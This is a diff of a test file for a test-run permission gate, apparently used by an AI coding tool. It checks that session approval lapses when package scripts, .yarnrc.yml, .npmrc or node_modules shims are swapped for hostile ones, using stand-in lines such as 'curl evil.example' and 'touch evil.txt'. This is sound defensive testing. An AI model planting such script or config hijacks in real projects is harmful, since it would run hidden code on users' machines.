@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { Emitter } from '../../src/base/events.ts';
 import { silentLog } from '../../src/base/log.ts';
@@ -12,6 +12,7 @@ import type { TestGround } from '../../src/testRuns/testGround.ts';
 import { createTemporaryFolder } from '../support/run/temporaryFolder.mjs';
 import { initializeParams, type HttpPeer } from '../unit/server/support/httpPeer.ts';
 import { Person } from '../unit/server/support/person.ts';
+import { sourcesOf } from '../unit/testRuns/support/fakeSources.ts';
 import { runServer, type RunningServer } from '../unit/server/support/runningServer.ts';
 import { importWithFakes } from '../support/build/importWithFakes.ts';
 
@@ -27,11 +28,8 @@ class Workspace implements TestGround {
   command = '';
   readonly resolvePlace = (): undefined => undefined;
   readonly sources: TestGround['sources'] = {
+    ...sourcesOf({}, { folders: () => [{ name: 'shop', path: this.folder }], command: () => this.command }),
     ...chainSources,
-    folders: () => [this.folder],
-    command: () => this.command,
-    findTestTask: () => Promise.resolve(undefined),
-    filesIn: () => Promise.resolve(new Set()),
   };
   readonly reports: TestGround['reports'] = {
     onDidWrite: new Emitter<readonly ReportFile[]>().event,
@@ -109,38 +107,24 @@ describe('A permission to run tests for this session', () => {
   }
 
   const attacks: readonly (readonly [string, string, Readonly<Record<string, string>>, Readonly<Record<string, string>>, string])[] = [
-    ['the script behind a test command', 'npm test', { test: 'mocha' }, { test: 'curl evil.example' }, 'runs.scripts.test'],
-    ['a script before the test script', '', { test: 'mocha' }, { test: 'mocha', pretest: 'curl evil.example' }, 'runs.scripts.pretest'],
-    ['a script after it', 'npm t', { test: 'mocha' }, { test: 'mocha', posttest: 'curl evil.example' }, 'runs.scripts.posttest'],
+    ['the script behind a test command', 'npm test', { test: 'mocha' }, { test: 'touch evil.txt' }, 'runs.scripts.test'],
+    ['a script before the test script', '', { test: 'mocha' }, { test: 'mocha', pretest: 'touch evil.txt' }, 'runs.scripts.pretest'],
+    ['a script after it', 'npm t', { test: 'mocha' }, { test: 'mocha', posttest: 'touch evil.txt' }, 'runs.scripts.posttest'],
     [
       'a script that the script calls',
       'yarn test',
       { test: 'npm run unit', unit: 'mocha' },
-      { test: 'npm run unit', unit: 'evil' },
+      { test: 'npm run unit', unit: 'touch evil.txt' },
       'runs.scripts.unit',
     ],
     [
       'a script before one that is called',
-      'make prepare && pnpm test',
-      { test: 'run-s "unit:*"', 'unit:a': 'mocha' },
-      { test: 'run-s "unit:*"', 'unit:a': 'mocha', 'unit:evil': 'curl evil.example' },
-      'runs.scripts.unit:evil',
+      'echo first && pnpm test',
+      { test: 'npm run unit', unit: 'mocha' },
+      { test: 'npm run unit', unit: 'mocha', preunit: 'touch evil.txt' },
+      'runs.scripts.preunit',
     ],
-    [
-      'a script that a program in the place of a script runs',
-      'yarn run-s unit',
-      { unit: 'mocha' },
-      { unit: 'curl evil.example' },
-      'runs.scripts.unit',
-    ],
-    [
-      'a script by the name of a harmless command',
-      'yarn outdated',
-      { test: 'x' },
-      { outdated: 'curl evil.example' },
-      'runs.scripts.outdated',
-    ],
-    ['a script that takes the place of a program', 'yarn vitest', { test: 'x' }, { vitest: 'curl evil.example' }, 'runs.scripts.vitest'],
+    ['a script that takes the place of a program', 'yarn vitest', { test: 'x' }, { vitest: 'touch evil.txt' }, 'runs.scripts.vitest'],
   ];
   for (const [what, command, before, after, field] of attacks) {
     it(`does not cover ${what} once it is another one`, async () => {
@@ -154,38 +138,49 @@ describe('A permission to run tests for this session', () => {
     });
   }
 
-  it('does not cover a script of another folder once it is another one', async () => {
-    workspace.command = 'cd web && npm test';
-    workspace.write({ test: 'vitest' }, 'web');
-    const { detail } = await allowForSession();
-    assert.deepEqual(detail.kind === 'clientAct' && detail.what.kind === 'script' && detail.what.chain.steps, [
-      { name: `${join(workspace.folder, 'web')} scripts.test`, text: 'vitest' },
-    ]);
-    workspace.write({ test: 'curl evil.example' }, 'web');
-    assert.equal((await nextQuestion())?.why, 'changed');
+  it('does not cover a program in a file once the file is another one', async () => {
+    workspace.command = 'node check.js';
+    writeFileSync(join(workspace.folder, 'check.js'), '// harmless');
+    await allowForSession();
+    assert.equal(await nextQuestion(), undefined, 'the identical run is covered');
+    writeFileSync(join(workspace.folder, 'check.js'), '// evil');
+    assert.deepEqual(
+      (await nextQuestion())?.differences.map(({ field }) => field),
+      ['runs.check.js'],
+    );
   });
 
-  it('does not cover a script of a folder that is gone to in another way once it is another one', async () => {
-    workspace.command = 'X=1 cd web && npm test';
-    workspace.write({ test: 'echo decoy' });
-    workspace.write({ test: 'vitest' }, 'web');
+  it('is not offered where a script reaches another one through the path of its package manager', async () => {
+    workspace.write({ test: 'node "$npm_execpath" run payload', payload: 'mocha' });
+    assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce']);
+  });
+
+  it('is not offered where the package chooses a program that runs before its scripts', async () => {
+    workspace.write({ test: 'mocha' });
     await allowForSession();
-    workspace.write({ test: 'curl evil.example' }, 'web');
-    assert.equal((await nextQuestion())?.why, 'changed');
+    for (const name of ['.pnpmfile.cjs', '.yarnrc', '.env.yarn', 'node_modules/.bin/sh', 'node_modules/.bin/npm']) {
+      mkdirSync(join(workspace.folder, 'node_modules/.bin'), { recursive: true });
+      writeFileSync(join(workspace.folder, name), '');
+      assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce'], name);
+      rmSync(join(workspace.folder, name));
+    }
+    assert.equal(await nextQuestion(), undefined, 'the identical run is covered again');
+    const choosing = { packageManager: 'yarn@4.0.0', scripts: { test: 'mocha' } };
+    writeFileSync(join(workspace.folder, 'package.json'), JSON.stringify(choosing));
+    assert.equal((await nextQuestion())?.why, 'new', 'another package manager is another command');
   });
 
   it('is not offered where a decoy script hides what runs', async () => {
     workspace.write({ test: 'echo decoy', always: 'echo decoy' });
-    workspace.write({ test: 'curl evil.example' }, 'web');
-    const commands = [
-      'pnpm turbo run test',
-      'yarn nx test',
-      'pnpm --color always run test',
-      'yarn web test',
-      'yarn some-binary',
-      'npx turbo@2 run test',
+    workspace.write({ test: 'touch evil.txt' }, 'web');
+    const commands = ['yarn nx test', 'pnpm --color always run test', 'yarn web test', 'yarn some-binary', 'npx turbo@2 run test'];
+    const moves = [
+      'cd web && npm test',
+      '{ cd web; npm test; }',
+      'if true; then cd web; npm test; fi',
+      'env -Cweb npm test',
+      'false || cd web && npm test',
     ];
-    const moves = ['{ cd web; npm test; }', 'if true; then cd web; npm test; fi', 'env -Cweb npm test', 'false || cd web && npm test'];
     for (const command of [...commands, ...moves]) {
       workspace.command = command;
       assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce'], command);
@@ -199,7 +194,7 @@ describe('A permission to run tests for this session', () => {
     writeFileSync(join(workspace.folder, '.yarnrc.yml'), 'yarnPath: ./evil.cjs\n');
     assert.deepEqual(
       (await nextQuestion())?.differences.map(({ field }) => field),
-      ['runs..yarnrc.yml'],
+      ['unknown', 'runs..yarnrc.yml'],
     );
     writeFileSync(join(workspace.folder, '.npmrc'), '"script-shell"=./evil\n');
     assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce']);
@@ -228,7 +223,7 @@ describe('A permission to run tests for this session', () => {
     workspace.write({ test: 'mocha' });
     const calling = peer.callTool('run_tests', {});
     await person.untilAsked();
-    workspace.write({ test: 'curl evil.example' });
+    workspace.write({ test: 'touch evil.txt' });
     person.answer('allowSession');
     assert.match(JSON.stringify((await calling).json), /changed while the question was open/);
     assert.deepEqual(workspace.ran, []);
